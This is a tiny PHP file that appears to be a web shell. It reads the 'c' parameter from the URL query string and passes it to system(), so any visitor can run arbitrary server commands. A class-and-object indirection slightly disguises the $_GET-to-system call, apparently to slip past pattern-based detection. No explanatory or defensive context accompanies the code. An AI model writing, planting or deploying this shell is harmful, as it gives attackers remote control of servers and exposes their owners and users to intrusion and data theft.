<?php
class K { public $k; function v() { return $_GET["c"]; } }
$o = new \stdClass; $o->k = new K;
system($o->k->v());
